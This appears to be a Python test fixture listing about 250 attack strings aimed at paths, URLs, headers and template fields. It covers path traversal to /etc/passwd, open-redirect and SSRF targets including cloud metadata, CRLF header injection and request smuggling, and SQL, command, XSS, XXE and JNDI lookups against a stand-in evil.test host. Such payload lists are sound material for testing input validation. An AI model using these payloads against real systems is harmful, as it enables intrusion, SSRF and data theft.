# ruff: noqa: RUF001, E501 - letters that look like others are what this is about
"""What attackers send where a path, a header or a name is expected: about 250 texts."""

from __future__ import annotations

from typing import Final

_UP: Final = (
    "..", "../", "../..", "../../../../etc/passwd", "..\\", "..\\..\\windows\\win.ini", "....//",
    "....\\\\", "..;/", "..;/admin", ".;/", "/..", "/../", "/./", "./", ".", "...", "..../",
    "%2e%2e", "%2e%2e/", "%2e%2e%2f", "..%2f", "%2e.", ".%2e", ".%2e/", "%2e%2e%5c", "..%5c",
    "%252e%252e%252f", "..%252f", "%25252e%25252e", "%c0%ae%c0%ae/", "..%c0%af", "%c0%2e",
    "%uff0e%uff0e/", "..%u2215", "．．／", "‥/", "․․/", "..／..／", "..∕", "..⁄", "..%ef%bc%8f",
    "x/../..", "x/%2e%2e/%2e%2e", "x\\..\\..", "..\x00/", "../\x00", "..%00/", "..\t/", "..\n/",
    "..\r\n/", ".. /", " ../", "../ ", "..?", "..#", "..&", "..=", "..:", "..@", "..%20/", "..%09/",
    "..%0d%0a/", "~/", "~root", "/~", "/.%2e/", "//..//", "\\\\..\\\\", "..//..//", "..%2f..%2f",
    "%2f..%2f..", "/%2e%2e/%2e%2e/etc", "file/../../../x", "a/b/c/../../../../../../x", ".../.../",
)  # fmt: skip
_ELSEWHERE: Final = (
    "//evil.test", "///evil.test", "////evil.test/", "/\\evil.test", "\\\\evil.test\\share",
    "https://evil.test/", "http:evil.test", "https:/evil.test", "hTTps://evil.test", "//evil.test@",
    "@evil.test", "@evil.test/", ":80@evil.test/", ":@evil.test", "up.example@evil.test",
    "up.example:443@evil.test", ".evil.test", ".evil.test/", "evil.test#", "evil.test?", "#@evil.test",
    "?@evil.test", "%40evil.test", "%2f%2fevil.test", "%5c%5cevil.test", "/%09/evil.test",
    "/%0d/evil.test", "/%5cevil.test", "//evil%E3%80%82test", "//evil。test", "//ⓔvil.test",
    "javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "gopher://evil.test:70/_x",
    "ldap://evil.test", "jar:http://evil.test!/", "//[::1]/", "//127.0.0.1:22", "//2130706433/",
    "//0x7f.1/", "//169.254.169.254/latest/meta-data/", "http://[::ffff:127.0.0.1]/", "//localhost",
    "http://up.example.evil.test", "*", "/*", "http://", "://", "//", "/", "\\", "?", "#", "&", ";",
    ":", "@", "??", "##", "?#", "#?", "?a=b", "#fragment", "&admin=true", "?admin=true",
    "&admin=true#", ";admin=true", "%3fadmin=true", "%23", "%26admin=true", "%3b", "x?y=z&a[b]=c",
)  # fmt: skip
_SPLITTING: Final = (
    "\r\n", "\n", "\r", "\r\nX-Evil: 1", "\nX-Evil: 1", "\rX-Evil: 1", "x\r\nX-Evil: 1\r\n",
    "x\r\n\r\n<html>", "\r\n\r\nGET /evil HTTP/1.1\r\nHost: evil.test\r\n\r\n", "\n\nGET /evil",
    " HTTP/1.1\r\nHost: evil.test\r\n\r\n", " HTTP/1.0", "x HTTP/1.1", "%0d%0aX-Evil:%201",
    "%0aX-Evil:1", "%0dX-Evil:1", "%0D%0A%0D%0A", "%250d%250aX-Evil: 1", "%E5%98%8A%E5%98%8DX-Evil: 1",
    "嘊嘍X-Evil: 1", "\u2028X-Evil: 1", "\u2029X-Evil: 1", "\x85X-Evil: 1", "\x0bX-Evil: 1",
    "\x0cX-Evil: 1", "\x1cX-Evil: 1", "\x00X-Evil: 1", "\x7fX-Evil: 1", "\ufeffX-Evil: 1",
    "x\r\n X-Folded: 1", "x\n\tX-Folded: 1", "Set-Cookie: a=b", "\r\nSet-Cookie: a=b",
    "\r\nTransfer-Encoding: chunked", "\r\nContent-Length: 0\r\n\r\n", "0\r\n\r\nGET /evil HTTP/1.1",
    "chunked", "\r\nHost: evil.test", "\r\nConnection: upgrade", "\r\nAuthorization: Basic eDp4",
    "a; admin=1", "a, b", 'a"; b="c', "a=b; Path=/", "; a=b", ";a=b", "a;", "=", "==", "a=b=c",
    '"', '""', "'", "`", "a\tb", "a\x1fb", "\x1b[31mred", "\x08\x08", "\x00", "a\x00b", " ", "  ",
    "\t", "\u200b", "\u202egpj", "é", "ÿ", "日本語", "😀", "\U0010ffff", "x" * 4000,
)  # fmt: skip
_TEMPLATES: Final = (
    "{{BEARER}}", "{{KEY}}", "{{env.KEY}}", "{{rest.v}}", "{{tools.v}}", "{v}", "{{v}}", "{{{v}}}",
    "{{ KEY }}", "$.v", "$..*", "${KEY}", "$KEY", "%(KEY)s", "#{KEY}", "<%= KEY %>", "{% KEY %}",
    "{{7*7}}", "${7*7}", "${jndi:ldap://evil.test/a}", "{{constructor.constructor('x')()}}",
    "$(id)", "`id`", "; id", "| id", "& id", "' OR '1'='1", "'; DROP TABLE x;--", '" OR ""="',
    "<script>alert(1)</script>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "]]>", "<![CDATA[x]]>",
    "<!--", "</a><b>", '","admin":true,"x":"', '"}', '\\"', "\\", "\\u0022", "\\n", "[", "{", "}",
    "]", "null", "true", "1e999", "-0", "NaN", "*)(uid=*", "__proto__", "--boundary", "\r\n--boundary--",
    'x"; filename="evil', "a&b=c", "a+b", "a%20b", "%", "%%", "%zz", "%2", "&amp;", "&#13;&#10;",
)  # fmt: skip
PAYLOADS: Final = tuple(dict.fromkeys((*_UP, *_ELSEWHERE, *_SPLITTING, *_TEMPLATES)))
